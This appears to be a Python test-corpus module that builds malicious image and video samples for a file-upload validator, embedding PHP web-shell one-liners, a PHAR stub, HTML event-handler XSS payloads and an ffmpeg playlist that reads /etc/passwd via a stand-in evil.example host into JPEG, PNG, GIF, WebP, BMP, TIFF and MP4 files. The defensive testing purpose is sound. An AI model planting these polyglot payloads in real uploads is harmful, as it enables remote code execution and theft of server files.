"""Code in files, in shapes that no list of function names covers."""
# tables, where a case is one line

import zlib
from collections.abc import Iterator

from testkit.corpus.bad_impostors import valid
from testkit.corpus.good_webp_bmp import bmp
from testkit.corpus.isobmff_bytes import box, film, ftyp
from testkit.corpus.jpeg_bytes import XMP_HEAD, exif, jpeg, segment, with_segments
from testkit.corpus.png_bytes import chunk as png_chunk
from testkit.corpus.png_bytes import extension, gif, png
from testkit.corpus.riff_bytes import chunk, riff
from testkit.corpus.sample import BMP, GIF, JPEG, MP4, PNG, TIFF, WEBP, Sample, bad
from testkit.corpus.tiff_bytes import UNDEFINED, rgb, tiff

CODE = {
    "php-variables": b"<?=($_=@$_GET[2]).@$_($_GET[1]);?>",
    "php-request": b"<?=@$_REQUEST[1]($_REQUEST[2])?>",
    "php-unclosed": b"<?php\n@$_POST[0]($_POST[1]);",
    "php-call": b"<?phpinfo()?>",
    "php-string-call": b"<?=strrev('metsys')('id')?>",
    "php-assignment": b"<?$f='sys'.'tem';$f('id');?>",
    "php-backticks": b"<?=`id`?>",
    "php-short-backticks": b"<? `id` ?>",
    "php-include": b"<?=include'/tmp/x'?>",
    "php-call-unclosed": b"<?phpinfo();",
    "php-call-short-name": b"<?f('id')?>",
    "php-call-variable": b"<?$f('id')?>",
    "php-call-string": b"<?'system'('id')?>",
    "php-call-brackets": b"<?('sys'.'tem')('id')?>",
    "php-call-comment": b"<?/**/phpinfo()?>",
    "php-call-line-comment": b"<?//\nphpinfo()?>",
    "php-name-as-call": b"<?php(phpinfo());",
    "php-backticks-unclosed": b"<?=`id`;",
    "php-backticks-echo": b"<?echo`id`?>",
    "php-include-short": b"<?include'/tmp/x'?>",
    "php-include-unclosed": b"<?include'/tmp/x';",
    "phar": b"__HALT_COMPILER(); ?>\r\n" + bytes(60),
    "handler-new": b"<body onpageshow=alert(1)>",
    "handler-animation": b"<p/onanimationstart=alert`1`>",
    "handler-behind-control": b"<p\x01 onanimationend=alert(1)>",
    "handler-behind-controls": b"<x\x08\x1fy a='b' \x0bonpageshow='\x01alert(1)'>",
    "handler-with-control": b'<p onpageshow="/*\x01*/alert(document.domain)">',
    "handler-with-umlaut": b"<p onpageshow='\"\xc3\xbc\";alert(1)'>",
    "handler-quoted": b"<x a='b'onbeforematch = \"location='//evil.example'\">",
}


def samples() -> Iterator[Sample]:
    photo, reasons = jpeg(), "polyglot|active_content"
    for name, text in CODE.items():
        why = "a server or browser that guesses types runs it"
        inside = {
            "jpeg-comment": (JPEG, with_segments(photo, segment(0xFE, text))),
            "jpeg-exif": (JPEG, with_segments(photo, segment(0xE1, exif(maker=text.ljust(64, b"\0"))))),
            "jpeg-profile": (JPEG, with_segments(photo, segment(0xE2, b"ICC_PROFILE\0\x01\x01" + bytes(128) + text))),
            "jpeg-xmp": (JPEG, with_segments(photo, segment(0xE1, XMP_HEAD + b"<x:xmpmeta>" + text))),
            "png-text": (PNG, png(before=png_chunk(b"tEXt", b"Comment\0" + text))),
            "png-private": (PNG, png(before=png_chunk(b"abCd", text))),
            "png-data": (PNG, _stored_png(text)),
            "gif-application": (GIF, gif(before=extension(0xFF, b"EVILEVIL1.0", text))),
            "webp-exif": (WEBP, riff(b"WEBP", *_parts(valid()[WEBP]), chunk(b"abcd", text))),
            "bmp-gap": (BMP, bmp(gap=len(text)).replace(bytes(len(text)), text, 1)),
            "tiff-private": (TIFF, tiff(rgb(extra={0xC5F1: (UNDEFINED, text.ljust(80, b"\0"))}))),
        }  # fmt: skip
        for label, (declared, content) in inside.items():
            yield bad(
                f"code/{label}-{name}", declared, content, f"{reasons}|malformed" if declared == WEBP else reasons, why
            )
    stub = CODE["phar"]
    yield bad("code/mp4-phar", MP4, film().last(ftyp(b"mp42"), tail=box(b"free", stub)), "polyglot", "a PHP archive")
    playlist = box(b"free", b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\nconcat:http://evil.example/x|file:///etc/passwd\n")
    yield bad("code/mp4-playlist", MP4, film().last(ftyp(b"mp42"), tail=playlist), "polyglot", "ffmpeg plays the list")
    far = bmp(24, size=(2000, 1500))
    at = 6 * 1024 * 1024
    far = far[:at] + CODE["php-request"] + far[at + len(CODE["php-request"]) :]
    yield bad("code/bmp-far", BMP, far, "polyglot", "in pixels behind the first four megabytes")
    strip = bytes(2000 * 1500 * 3)
    page = rgb(2000, 1500)
    far = tiff(type(page)(page.tags, (strip[:at] + CODE["php-request"] + strip[at + len(CODE["php-request"]) :],)))
    yield bad("code/tiff-far", TIFF, far, "polyglot", "in pixels behind the first four megabytes")


def _stored_png(text: bytes) -> bytes:
    """Returns an image whose pixels, stored without compression, contain the text."""
    row = b"\0" + text.ljust(192, b"\0")[:192]
    packed = zlib.compressobj(0)
    data = packed.compress(row * 3) + packed.flush()
    from testkit.corpus.png_bytes import END, SIGNATURE, header

    return SIGNATURE + header(64, 3) + png_chunk(b"IDAT", data) + END


def _parts(webp: bytes) -> Iterator[bytes]:
    from testkit.corpus.riff_bytes import chunks, vp8x

    yield vp8x(0, 64, 48)
    yield from (chunk(*part) for part in chunks(webp[12:]))
